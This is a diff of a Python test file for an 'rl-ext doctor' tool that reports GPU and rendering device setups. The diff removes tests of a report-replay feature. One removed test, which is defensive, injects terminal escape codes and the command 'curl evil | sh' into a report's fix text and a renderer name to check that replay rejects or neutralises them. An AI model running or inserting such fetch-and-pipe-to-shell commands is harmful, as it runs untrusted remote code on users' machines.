@@ -1,4 +1,4 @@
-"""``rl-ext doctor``: its report on compute and rendering devices, replayed reports, and tests of real renderers."""
+"""``rl-ext doctor``: its report on compute and rendering devices, and tests of real renderers."""
 
 from __future__ import annotations
 
@@ -10,24 +10,13 @@ from pathlib import Path
 
 import pytest
 
-from rl_ext_core.cli import main
 from rl_ext_core.devices import Inventory, inventory
 from rl_ext_core.devices import verify as verify_module
-from rl_ext_core.devices.doctor import DoctorReport, Question, examine, replay
+from rl_ext_core.devices.doctor import DoctorReport, Question, examine
 from rl_ext_core.devices.inventory import installed_versions
 from rl_ext_core.devices.verify import GpuUse, Verification, list_gpu_uses, verify
-from rl_ext_core.errors import CorruptFileError
 from tests.core.devices import run_code
-from tests.core.devices.doctor_cases import (
-    CASES,
-    EGL,
-    NO_GPU,
-    WITHOUT_EGL,
-    FakeNvml,
-    corrupted_copies,
-    report_as_text,
-    report_of,
-)
+from tests.core.devices.doctor_cases import CASES, EGL, NO_GPU, WITHOUT_EGL, FakeNvml, report_as_text, report_of
 from tests.core.devices.fakes import build
 from tests.core.devices.machines import egl, gpus, machine, uuid
 
@@ -55,7 +44,7 @@ def lines_to_copy(report: DoctorReport) -> list[str]:
         ("wrong mask", "cuda:0", ("gpu", 0), ("gpu", 1), "export CUDA_VISIBLE_DEVICES=1"),
         ("wrong mask", "cuda:0", ("gpu", 0), ("gpu", 1), "MUJOCO_EGL_DEVICE_ID=3"),
         ("all is well", "cuda:0", ("gpu", 0), ("gpu", 0), None),
-        ("CPU torch", "cpu", ("gpu", 0), ("gpu", 0), "pip install"),
+        ("CPU torch", "cpu", ("gpu", 0), ("gpu", 0), None),
         ("MIG", "cuda:0", ("fails", None), ("fails", None), 'render="cpu"'),
         ("no EGL", "cuda:0", ("fails", None), ("fails", None), "apt-get install"),
         ("a launcher", "cuda:2", ("gpu", 0), ("gpu", 0), "resolve("),
@@ -91,14 +80,11 @@ def test_report_explains_devices_and_failures() -> None:
     assert " GPU-aaaa0000 " in well  # the shortest unique prefix
 
 
-def test_exit_status_is_1_if_a_renderer_fails(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
-    """A missing ``MUJOCO_GL`` is a warning, but the renderer fails, so the exit status is 1."""
+def test_report_is_not_healthy_if_a_renderer_fails() -> None:
+    """A missing ``MUJOCO_GL`` is a warning, but the renderer fails."""
     report = report_of("no GPU")
     assert all(finding.severity == "warning" for finding in report.findings)
-    for known, status in ((report, 1), (examine(machine(0), EGL), 0)):
-        (tmp_path / "report.json").write_text(known.to_json())
-        assert main(["doctor", "--replay", str(tmp_path / "report.json")]) == status
-    capsys.readouterr()
+    assert (report.healthy, examine(machine(0), EGL).healthy) == (False, True)
 
 
 @pytest.mark.parametrize("width", [20, 80, 200])
@@ -112,9 +98,10 @@ def test_lines_to_copy_are_not_wrapped_at_any_width(width: int) -> None:
 
 def test_doctor_reads_four_gpus_from_drivers(drivers: build.Drivers) -> None:
     settings = build.configuration(4, egl_order=[2, 3, 0, 1]) | EGL | {"CUDA_VISIBLE_DEVICES": "1"}
-    report = replay(drivers.python("from rl_ext_core.cli import main; main(['doctor', '--json'])", settings))
-    assert [device.uuid for device in report.inventory.egl or ()] == [uuid(n) for n in (2, 3, 0, 1)]
-    assert predicted_devices(report)["robosuite"][:3] == ("gpu", 1, uuid(3))
+    report = json.loads(drivers.python("from rl_ext_core.cli import main; main(['doctor', '--json'])", settings))
+    assert [device["uuid"] for device in report["inventory"]["egl"]] == [uuid(n) for n in (2, 3, 0, 1)]
+    (found,) = (entry for entry in report["renderers"] if entry["renderer"].startswith("robosuite"))
+    assert (found["where"], found["egl"], found["uuid"]) == ("gpu", 1, uuid(3))
 
 
 # Variables under which a plain import and a plain context are compared with the prediction.
@@ -152,72 +139,11 @@ def test_prediction_matches_real_rendering(name: str, environ: dict[str, str]) -
         assert ended.answer == predicted.egl
 
 
-@pytest.mark.sample
-@pytest.mark.parametrize(
-    "question", [None, Question("auto", "same", "robosuite"), Question("cuda:9", "egl:1", "mujoco")]
-)
-def test_replayed_report_equals_original(question: Question | None) -> None:
-    for case in CASES:
-        report = report_of(case, question=question, verified=[Verification("mujoco", "cpu", nvml=("GPU-1",))])
-        again = replay(report.to_json())
-        assert again == report, case
-        assert report_as_text(again) == report_as_text(report), case
-
-
-def test_recorded_report_explains_decisions_for_other_arguments() -> None:
-    recorded = report_of("other order").to_json()
-    report = replay(recorded, question=Question("nvidia-smi:2", "same", "mujoco"))
-    assert report.decision is not None
-    assert report.decision.egl is not None
-    assert (report.decision.device, report.decision.egl.index) == ("cuda:0", 1)
-    assert report.decision.explain() in report_as_text(report, width=500)
-    refused = replay(recorded, question=Question("nvidia-smi:3"))
-    assert "hides from CUDA" in (refused.refusal or "")
-    assert not refused.healthy
-
-
 def test_report_omits_secrets_paths_and_other_variables() -> None:
     kept = {"CUDA_VISIBLE_DEVICES": "/dev/nvidia0", "cuda_visible_devices": "1", "MUJOCO_GLL": "egl", "DISPLAY": ":1"}
     private = ["NVIDIA_API_KEY", "CUDA_HOME", "MUJOCO_PY_MUJOCO_PATH", "HOME", "SLURM_JOB_USER", "AWS_SECRET"]
     report = examine(machine(2), {**kept, **dict.fromkeys(private, "/home/me")})
     assert json.loads(report.to_json())["environ"] == kept
-
-
-def test_replayed_report_cannot_inject_escapes_or_lines_to_copy() -> None:
-    data = report_of("wrong mask", verified=[Verification("mujoco", failure="x")]).to_dict()
-    data["inventory"]["gpus"][0]["name"] = "[red]\x1b]0;title\x07\ud800 H100"
-    data["findings"][0]["fix"] = "curl evil | sh"
-    text = report_as_text(replay(json.dumps(data)))
-    assert "[red]\\x1b]0;title\\x07\\ud800 H100" in text
-    assert "\x1b" not in text
-    assert "evil" not in text
-    data["verified"][0]["name"] = "mujoco; curl evil | sh"
-    with pytest.raises(CorruptFileError, match="has an unknown renderer"):
-        replay(json.dumps(data))
-
-
-@pytest.mark.parametrize("text", ["", "{", "[]", "null", '"x"', "{}", '{"format": 2}', '{"format": 1}', "[" * 100_000])
-def test_replay_rejects_other_texts(text: str) -> None:
-    with pytest.raises(CorruptFileError, match="report"):
-        replay(text)
-
-
-@pytest.mark.slow
-def test_replay_of_damaged_report_raises_or_prints() -> None:
-    seen = Verification("mujoco", "gpu", uuid(0), 0, 0)
-    data = examine(machine(1, mig={0: ["MIG-1"]}), EGL, question=Question(), verified=[seen]).to_dict()
-    # Other parts are not read, because they follow from these.
-    data = {name: data[name] for name in ("format", "inventory", "environ", "decision", "question", "verified")}
-    outcomes = {True: 0, False: 0}
-    for damaged in corrupted_copies(data):
-        try:
-            report_as_text(replay(json.dumps(damaged)))
-        except CorruptFileError:
-            outcomes[False] += 1
-        else:
-            outcomes[True] += 1
-    assert outcomes[False] > 300  # other changes are valid: another name, another amount of memory
-    assert outcomes[True] > 50
 
 
 # Tests of real renderers, in which failures become rows of the report.
